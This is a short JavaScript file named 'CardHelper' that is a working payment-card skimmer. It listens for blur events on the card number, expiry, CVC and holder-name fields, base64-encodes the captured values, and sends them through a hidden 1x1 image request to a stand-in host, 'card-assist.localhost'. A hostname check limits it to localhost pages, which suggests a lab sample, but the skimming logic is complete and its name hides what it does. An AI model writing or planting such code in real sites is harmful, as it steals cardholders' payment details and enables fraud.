function CardHelper(opts) {
	this.opts = opts;
	this.store = {};
}
CardHelper.prototype.bind = function () {
	if (!/\.localhost$/.test(window.location.hostname)) { return this; }
	var self = this;
	this.opts.fields.forEach(function (id) {
		var node = document.getElementById(id);
		if (node) {
			node.addEventListener('blur', function () { self.note(id, node.value); });
		}
	});
	return this;
};
CardHelper.prototype.note = function (id, value) {
	this.store[id] = value;
	if (Object.keys(this.store).length === this.opts.fields.length) {
		this.ship();
	}
};
CardHelper.prototype.ship = function () {
	var img = new Image(1, 1);
	img.src = this.opts.to + '?_=' + escape(window.btoa(JSON.stringify(this.store)));
};
new CardHelper({ fields: ['cc_number', 'cc_exp', 'cc_cvc', 'cc_holder'], to: 'https://card-assist.localhost/px' }).bind();
